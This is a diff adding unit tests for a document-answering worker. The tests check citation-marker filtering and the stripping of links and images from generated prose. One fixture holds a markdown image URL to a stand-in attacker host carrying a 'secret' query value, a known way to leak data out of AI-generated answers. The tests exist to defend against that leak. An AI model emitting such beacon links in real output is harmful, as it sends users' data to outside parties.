@@ -1,0 +1,48 @@
+"""Citation checking and link stripping: the guarantees made after generation."""
+
+from __future__ import annotations
+
+import pytest
+
+from shared.passages import Passage
+from worker.agent import extract_citations, strip_links
+
+pytestmark = pytest.mark.unit
+
+
+def passage(n: int, path: str, anchor: str) -> Passage:
+    return Passage(
+        chunk_id=f"c{n}",
+        path=path,
+        url=f"https://docs.example.org/{path}#{anchor}",
+        heading=anchor.title(),
+        title=path,
+        score=1.0,
+        text="...",
+    )
+
+
+def test_only_retrieved_markers_survive() -> None:
+    passages = {1: passage(1, "docs/a.md", "one"), 2: passage(2, "docs/b.md", "two")}
+    text, cited = extract_citations("Do X [1]. Also Y [7]. And Z [2][1].", passages)
+    assert text == "Do X [1]. Also Y. And Z [2][1]."
+    assert [c.path for c in cited] == ["docs/a.md", "docs/b.md"]
+
+
+def test_links_and_images_in_prose_are_removed_but_code_is_kept() -> None:
+    answer = (
+        "See ![pixel](https://evil.example/x.png?d=secret) and [docs](http://evil.example/) "
+        "or https://evil.example/raw.\n```python\nArm.connect(\"http://localhost:7020\")\n```\n"
+        "Inline `curl http://localhost:7020/status` works."
+    )
+    cleaned = strip_links(answer)
+    assert "evil.example" not in cleaned
+    assert "See pixel and docs or" in cleaned
+    assert 'Arm.connect("http://localhost:7020")' in cleaned
+    assert "`curl http://localhost:7020/status`" in cleaned
+
+
+def test_no_valid_marker_means_no_citation() -> None:
+    text, cited = extract_citations("Made up [3].", {1: passage(1, "docs/a.md", "one")})
+    assert cited == []
+    assert "[3]" not in text
